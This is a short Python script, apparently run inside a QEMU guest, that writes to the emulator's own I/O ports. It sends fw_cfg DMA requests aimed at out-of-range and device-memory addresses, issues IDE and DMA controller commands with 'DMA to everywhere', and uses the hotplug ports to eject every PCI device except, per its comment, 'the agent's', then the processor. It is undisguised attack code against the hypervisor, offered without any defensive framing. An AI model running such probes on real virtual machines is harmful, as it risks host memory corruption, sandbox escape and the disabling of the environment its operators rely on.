"""QEMU's own ports: the firmware configuration's direct memory access, PCI and processor hotplug, power management,
disk and DMA controllers."""
from kit import IN, OUT, Physical, open_ports, struct

open_ports()
memory = Physical()
READ, SKIP, SELECT, WRITE = 2, 4, 8, 16
for key in (0, 1, 5, 0x19, 0x20, 0x8000, 0x8003, 0xFFFF):
    for command in (READ, WRITE, SKIP, READ | WRITE):
        for length, target in ((16, memory.address + 4096), (1 << 20, memory.address), (64, 1 << 63), (64, 0xFEBF0000)):
            struct.pack_into(">IIQ", memory.bytes, 0, key << 16 | SELECT | command, length, target)
            for port, half in ((0x514, memory.address >> 32), (0x518, memory.address & 0xFFFFFFFF)):
                OUT[4](port, struct.unpack("<I", struct.pack(">I", half))[0])
    OUT[2](0x510, key)
    for _ in range(64):
        IN[1](0x511)
print("firmware configuration", flush=True)
# The disk controllers without disks, with DMA to everywhere.
for base in (0x1F0, 0x170):
    for command in (0xEC, 0x20, 0x30, 0xC8, 0xCA, 0xA0, 0x90, 0xEF):
        for register, value in ((2, 0xFF), (3, 0xFF), (4, 0xFF), (5, 0xFF), (6, 0xF0), (7, command)):
            OUT[1](base + register, value)
for channel in range(8):
    for register in (*range(0x10), *range(0x80, 0x90), *range(0xC0, 0xE0)):
        OUT[1](register, 0x40 | channel)
print("disks and DMA", flush=True)
# Takes every device but the agent's off the bus by the port that the firmware would use, then the processor itself.
OUT[4](0xAE10, 0)
OUT[4](0xAE08, 0xFFFFFFFC & ~(1 << 2))
print("ejected", flush=True)
for port in range(0xAF00, 0xAF20):
    for value in (0, 1, 0xFF, 7):
        OUT[1](port, value)
